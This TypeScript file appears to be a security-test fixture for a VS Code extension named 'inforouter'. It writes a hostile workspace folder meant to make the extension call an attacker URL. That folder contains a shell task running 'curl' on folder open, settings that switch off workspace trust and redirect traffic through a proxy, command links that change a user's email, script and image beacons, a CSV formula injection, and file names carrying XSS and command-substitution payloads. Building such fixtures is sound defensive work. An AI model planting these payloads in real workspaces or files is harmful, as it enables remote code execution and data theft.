import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';

/** Commands of this extension that would send something to a server of the attacker, each with its argument. */
export const attacks = (url: string): readonly { readonly command: string; readonly args: object }[] => [
  {
    command: 'inforouter.addProfile',
    args: { name: 'Evil', baseUrl: url, transport: 'get', allowUntrustedCertificate: true },
  },
  { command: 'inforouter.checkConnection', args: { profile: 'Evil' } },
  { command: 'inforouter.editProfile', args: { profile: 'Mine', baseUrl: url } },
  {
    command: 'inforouter.updateUserEmail',
    args: { userName: 'jdoe', newEmailAddress: 'evil@example.com', ticket: 'none', confirmed: true },
  },
];

/** What a settings file of a workspace would like to change; `http.proxy` would see every request. */
export const evilSettings = (url: string) => ({
  'inforouter.profiles': [{ name: 'Evil', baseUrl: url, allowUntrustedCertificate: true }],
  'inforouter.ticketStore': 'secretStorage',
  'inforouter.output.format': 'pretty',
  'inforouter.request.timeoutSeconds': 1,
  'inforouter.request.maxResponseMegabytes': 0.001,
  'http.proxy': url,
  'http.proxySupport': 'override',
  'http.proxyStrictSSL': false,
  'security.workspace.trust.enabled': false,
  'task.allowAutomaticTasks': 'on',
  'json.schemas': [{ fileMatch: ['data.json'], url: './schema.json' }],
});

/** Writes a folder that does what it can to make this extension call `url`. */
export async function writeMaliciousFolder(folder: string, url: string): Promise<void> {
  const links = attacks(url).map(
    ({ command, args }) => `command:${command}?${encodeURIComponent(JSON.stringify([args]))}`,
  );
  const inputs = attacks(url).map((attack, at) => ({ id: `attack${at}`, type: 'command', ...attack }));
  const used = inputs.map(({ id }) => `\${input:${id}}`);
  const task = {
    label: 'attack',
    type: 'shell',
    command: `curl -s ${url}/shell`,
    args: [...used, '${command:inforouter.updateUserEmail}'],
    runOptions: { runOn: 'folderOpen' },
  };
  const tasks = { version: '2.0.0', tasks: [task], inputs };
  const configuration = {
    type: 'node',
    request: 'launch',
    name: 'attack',
    args: used,
    preLaunchTask: 'attack',
  };
  const launch = { version: '0.2.0', configurations: [configuration], inputs };
  const markdown = links.map((link, at) => `[attack ${at}](${link})`).join('\n\n');
  const html = `<a id="attack" href="${links[0] ?? ''}">attack</a><script>fetch('${url}/html')</script><img src="${url}/img">`;
  const cell = (cell_type: string, source: string, outputs?: object[]) => ({
    ...{ cell_type, metadata: {}, source: [source] },
    ...(outputs && { outputs, execution_count: 1 }),
  });
  const output = {
    output_type: 'display_data',
    metadata: {},
    data: { 'text/html': [html], 'text/markdown': [markdown] },
  };
  const files: Readonly<Record<string, unknown>> = {
    '.vscode/settings.json': evilSettings(url),
    '.vscode/tasks.json': tasks,
    '.vscode/launch.json': launch,
    '.vscode/keybindings.json': attacks(url).map((attack, at) => ({ key: `f${at + 6}`, ...attack })),
    'evil.code-workspace': { folders: [{ path: '.' }], settings: evilSettings(url), tasks, launch },
    'README.md': `# Read me\n\n${markdown}\n\n<img src="${url}/img">\n`,
    'page.html': html,
    'book.ipynb': {
      nbformat: 4,
      nbformat_minor: 5,
      metadata: {},
      cells: [cell('markdown', markdown), cell('code', '1', [output])],
    },
    'schema.json': {
      properties: { attack: { type: 'string', description: markdown, markdownDescription: markdown } },
    },
    'data.json': { $schema: './schema.json', attack: 'hover' },
    'users.csv': `UserName,Email\n=cmd|'/c curl ${url}'!A0,${links[0] ?? ''}\n<img src=x onerror=fetch('${url}')>,"a\n`,
    '<img src=x onerror=alert(1)>.csv': 'UserName,Email\n',
    '$(bug) [attack](command:noop).csv': 'UserName,Email\n',
  };
  await mkdir(path.join(folder, '.vscode'), { recursive: true });
  for (const [name, content] of Object.entries(files)) {
    const text = typeof content === 'string' ? content : JSON.stringify(content, undefined, 2);
    await writeFile(path.join(folder, name), text);
  }
}
